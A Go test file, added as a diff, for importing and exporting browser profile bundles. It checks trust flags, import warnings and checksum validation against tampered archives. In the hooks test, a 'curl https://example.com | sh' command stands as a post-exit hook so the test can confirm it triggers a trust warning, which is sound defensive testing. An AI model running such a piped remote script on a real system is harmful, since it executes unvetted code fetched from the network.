@@ -0,0 +1,162 @@
+package internal
+
+import (
+	"archive/tar"
+	"bytes"
+	"compress/gzip"
+	"io"
+	"os"
+	"path/filepath"
+	"testing"
+
+	"github.com/stretchr/testify/assert"
+
+	uio "t0ast.cc/tbml/util/io"
+)
+
+func writeProfileBundleSourcesForTest(t *testing.T, dir string) ProfileConfiguration {
+	files := map[string]string{
+		"user.js":               "user_pref(\"a\", 1);",
+		"chrome/userChrome.css": "#nav-bar {}",
+		"xpi/foo@t0ast.cc.xpi":  "foo",
+		"hosts/org.keepassxc.keepassxc_browser.json": `{"name": "org.keepassxc.keepassxc_browser"}`,
+	}
+	for name, content := range files {
+		assert.NoError(t, os.MkdirAll(filepath.Dir(filepath.Join(dir, name)), uio.FileModeURWXGRWXO))
+		assert.NoError(t, os.WriteFile(filepath.Join(dir, name), []byte(content), uio.FileModeURWGRWO))
+	}
+	userJSFile := "user.js"
+	userChromeFile := filepath.Join(dir, "chrome/userChrome.css")
+	return ProfileConfiguration{
+		ExtensionFiles:       []string{"xpi/foo@t0ast.cc.xpi"},
+		Label:                "hardened",
+		NativeMessagingHosts: []string{"hosts/org.keepassxc.keepassxc_browser.json"},
+		UserChromeFile:       &userChromeFile,
+		UserJSFile:           &userJSFile,
+	}
+}
+
+func TestExportImportProfileDefinition(t *testing.T) {
+	sourceDir := t.TempDir()
+	profile := writeProfileBundleSourcesForTest(t, sourceDir)
+	bundle := &bytes.Buffer{}
+	assert.NoError(t, ExportProfileDefinition(profile, sourceDir, bundle))
+
+	targetDir := t.TempDir()
+	warnings := &Warnings{}
+	imported, err := ImportProfileDefinition(Configuration{}, targetDir, bytes.NewReader(bundle.Bytes()), nil, warnings)
+	assert.NoError(t, err)
+	assert.Len(t, warnings.List(), 1)
+	assert.Equal(t, "hardened", imported.Label)
+	if assert.NotNil(t, imported.UserJSFile) && assert.NotNil(t, imported.UserChromeFile) {
+		assert.Equal(t, filepath.Join("profiles", "hardened", "user.js"), *imported.UserJSFile)
+		assert.Equal(t, filepath.Join("profiles", "hardened", "userChrome.css"), *imported.UserChromeFile)
+	}
+	assert.Equal(t, []string{filepath.Join("profiles", "hardened", "extensions", "foo@t0ast.cc.xpi")}, imported.ExtensionFiles)
+	assert.Equal(t, []string{filepath.Join("profiles", "hardened", "native-messaging-hosts", "org.keepassxc.keepassxc_browser.json")}, imported.NativeMessagingHosts)
+
+	content, err := os.ReadFile(filepath.Join(targetDir, *imported.UserJSFile))
+	assert.NoError(t, err)
+	assert.Equal(t, "user_pref(\"a\", 1);", string(content))
+	content, err = os.ReadFile(filepath.Join(targetDir, imported.ExtensionFiles[0]))
+	assert.NoError(t, err)
+	assert.Equal(t, "foo", string(content))
+
+	_, err = ImportProfileDefinition(Configuration{}, targetDir, bytes.NewReader(bundle.Bytes()), nil, &Warnings{})
+	assert.Error(t, err)
+	_, err = ImportProfileDefinition(Configuration{Profiles: []ProfileConfiguration{{Label: "hardened"}}}, t.TempDir(), bytes.NewReader(bundle.Bytes()), nil, &Warnings{})
+	assert.Error(t, err)
+}
+
+func TestImportProfileDefinitionWarnsAboutBrowserCommand(t *testing.T) {
+	bundle := &bytes.Buffer{}
+	assert.NoError(t, ExportProfileDefinition(ProfileConfiguration{
+		BrowserCommand: []string{"sh", "-c", "true"},
+		Label:          "custom",
+	}, t.TempDir(), bundle))
+
+	warnings := &Warnings{}
+	_, err := ImportProfileDefinition(Configuration{}, t.TempDir(), bundle, nil, warnings)
+	assert.NoError(t, err)
+	assert.Len(t, warnings.List(), 1)
+}
+
+func TestProfileNeedsTrust(t *testing.T) {
+	plain := &bytes.Buffer{}
+	assert.NoError(t, ExportProfileDefinition(ProfileConfiguration{Label: "plain"}, t.TempDir(), plain))
+	profile, err := InspectProfileDefinition(bytes.NewReader(plain.Bytes()))
+	assert.NoError(t, err)
+	assert.False(t, ProfileNeedsTrust(profile))
+
+	// Hooks run on the host, so they need trust even without a browser
+	// command or environment variables.
+	hooks := &bytes.Buffer{}
+	assert.NoError(t, ExportProfileDefinition(ProfileConfiguration{
+		Hooks: &HooksConfiguration{PostExit: []string{"curl https://example.com | sh"}},
+		Label: "hooks",
+	}, t.TempDir(), hooks))
+	profile, err = InspectProfileDefinition(bytes.NewReader(hooks.Bytes()))
+	assert.NoError(t, err)
+	assert.True(t, ProfileNeedsTrust(profile))
+
+	sourceDir := t.TempDir()
+	hosts := &bytes.Buffer{}
+	assert.NoError(t, ExportProfileDefinition(writeProfileBundleSourcesForTest(t, sourceDir), sourceDir, hosts))
+	profile, err = InspectProfileDefinition(bytes.NewReader(hosts.Bytes()))
+	assert.NoError(t, err)
+	assert.True(t, ProfileNeedsTrust(profile), "native messaging hosts start programs")
+
+	for _, profile := range []ProfileConfiguration{
+		{ExtraArgs: []string{"--remote-debugging-port=9222"}},
+		{Sandbox: &SandboxConfiguration{Optional: true}},
+		{Sandbox: &SandboxConfiguration{Image: "example.com/browser", Type: "podman"}},
+	} {
+		assert.True(t, ProfileNeedsTrust(profile), "%+v", profile)
+	}
+	assert.False(t, ProfileNeedsTrust(ProfileConfiguration{Sandbox: &SandboxConfiguration{Type: "firejail"}}))
+
+	warnings := &Warnings{}
+	_, err = ImportProfileDefinition(Configuration{}, t.TempDir(), bytes.NewReader(hooks.Bytes()), nil, warnings)
+	assert.NoError(t, err)
+	if assert.Len(t, warnings.List(), 1) {
+		assert.Contains(t, warnings.List()[0].Message, "curl https://example.com | sh")
+	}
+}
+
+func TestImportProfileDefinitionChecksumMismatch(t *testing.T) {
+	sourceDir := t.TempDir()
+	profile := writeProfileBundleSourcesForTest(t, sourceDir)
+	bundle := &bytes.Buffer{}
+	assert.NoError(t, ExportProfileDefinition(profile, sourceDir, bundle))
+
+	// Copy the bundle, replacing the contents of user.js.
+	gzipReader, err := gzip.NewReader(bundle)
+	assert.NoError(t, err)
+	tarReader := tar.NewReader(gzipReader)
+	tampered := &bytes.Buffer{}
+	gzipWriter := gzip.NewWriter(tampered)
+	tarWriter := tar.NewWriter(gzipWriter)
+	for {
+		header, err := tarReader.Next()
+		if err == io.EOF {
+			break
+		}
+		assert.NoError(t, err)
+		content, err := io.ReadAll(tarReader)
+		assert.NoError(t, err)
+		if header.Name == "user.js" {
+			content = []byte("user_pref(\"a\", 2);")
+			header.Size = int64(len(content))
+		}
+		assert.NoError(t, tarWriter.WriteHeader(header))
+		_, err = tarWriter.Write(content)
+		assert.NoError(t, err)
+	}
+	assert.NoError(t, tarWriter.Close())
+	assert.NoError(t, gzipWriter.Close())
+
+	targetDir := t.TempDir()
+	_, err = ImportProfileDefinition(Configuration{}, targetDir, tampered, nil, &Warnings{})
+	assert.ErrorIs(t, err, ErrInvalidProfileBundle)
+	assert.NoDirExists(t, filepath.Join(targetDir, "profiles", "hardened"))
+}